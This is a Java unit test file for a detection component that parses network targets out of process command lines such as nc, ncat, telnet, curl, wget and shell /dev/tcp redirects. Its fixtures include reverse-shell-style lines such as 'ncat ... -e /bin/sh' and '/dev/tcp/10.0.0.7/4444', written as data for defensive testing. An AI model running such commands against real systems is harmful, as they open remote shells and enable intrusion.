package dev.vigil.detect.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.detect.behaviour.NetTargets.Target;
import java.util.List;
import org.junit.jupiter.api.Test;

class NetTargetsTest {

  private static List<Target> of(String name, String... argv) {
    return NetTargets.of(name, List.of(argv));
  }

  @Test
  void netcat_hostAndPort_afterOptionsWithValues() {
    assertThat(of("nc", "nc", "-w", "1", "127.0.0.1", "8080")).containsExactly(new Target("127.0.0.1", 8080));
    assertThat(of("nc", "nc", "-w1", "-z", "-v", "10.0.0.5", "22")).containsExactly(new Target("10.0.0.5", 22));
    assertThat(of("nc", "nc", "-p", "31337", "db", "5432")).containsExactly(new Target("db", 5432));
    assertThat(of("ncat", "ncat", "--proxy", "p:3128", "-e", "/bin/sh", "h", "443"))
        .containsExactly(new Target("h", 443));
  }

  @Test
  void netcat_portRangesAndLists() {
    assertThat(of("nc", "nc", "-z", "10.0.0.5", "20-25")).hasSize(6).extracting(Target::port)
        .containsExactly(20, 21, 22, 23, 24, 25);
    assertThat(of("nc", "nc", "-z", "h", "22,80,443")).extracting(Target::port).containsExactly(22, 80, 443);
    assertThat(of("nc", "nc", "-z", "h", "1-65535")).hasSize(NetTargets.MAX_TARGETS);
    assertThat(of("nc", "nc", "h", "80", "443")).extracting(Target::port).containsExactly(80, 443);
  }

  @Test
  void netcat_listeningOrWithoutPort_namesNoTarget() {
    assertThat(of("nc", "nc", "-l", "-p", "4444")).isEmpty();
    assertThat(of("nc", "nc", "-lvp", "4444")).isEmpty();
    assertThat(of("ncat", "ncat", "--listen", "4444")).isEmpty();
    assertThat(of("nc", "nc", "127.0.0.1")).isEmpty();
    assertThat(of("nc", "nc", "h", "http")).isEmpty();
    assertThat(of("nc", "nc", "h", "70000")).isEmpty();
  }

  @Test
  void recognisesTheToolByArgv0_whenCommIsBusybox() {
    assertThat(of("busybox", "/usr/bin/nc", "127.0.0.1", "25")).containsExactly(new Target("127.0.0.1", 25));
  }

  @Test
  void telnet_defaultsToPort23() {
    assertThat(of("telnet", "telnet", "10.1.1.1")).containsExactly(new Target("10.1.1.1", 23));
    assertThat(of("telnet", "telnet", "-l", "root", "10.1.1.1", "2323")).containsExactly(new Target("10.1.1.1",
        2323));
  }

  @Test
  void urlTools_takeHostAndPortFromUrls() {
    assertThat(of("curl", "curl", "-s", "-o", "/dev/null", "http://127.0.0.1:8080/x?y=1"))
        .containsExactly(new Target("127.0.0.1", 8080));
    assertThat(of("curl", "curl", "https://user:pw@example.com/")).containsExactly(new Target("example.com", 443));
    assertThat(of("wget", "wget", "-q", "-O-", "http://[fd00::5]:9090/metrics"))
        .containsExactly(new Target("fd00::5", 9090));
    assertThat(of("curl", "curl", "telnet://10.0.0.9:23")).containsExactly(new Target("10.0.0.9", 23));
    assertThat(of("curl", "curl", "-H", "Referer: http://x/", "gopher2://h/")).isEmpty();
    assertThat(of("curl", "curl", "-u", "admin:1234", "127.0.0.1:80")).isEmpty(); // bare host:port is ambiguous
  }

  @Test
  void devTcp_inAnyArgument() {
    assertThat(of("sh", "sh", "-c", "echo hi > /dev/tcp/10.0.0.7/4444; cat < /dev/udp/10.0.0.8/53"))
        .containsExactly(new Target("10.0.0.7", 4444), new Target("10.0.0.8", 53));
    assertThat(of("bash", "bash", "-c", "for p in 1 2; do echo > /dev/tcp/127.0.0.1/$p; done")).isEmpty();
    assertThat(of("cat", "cat", "/dev/tcpdump/x/1")).isEmpty();
  }

  @Test
  void otherProcesses_nameNoTargets() {
    assertThat(of("python3", "python3", "-m", "http.server", "8000")).isEmpty();
    assertThat(of("nc", "nc")).isEmpty();
    assertThat(of("nc", List.<String>of().toArray(String[]::new))).isEmpty();
  }
}
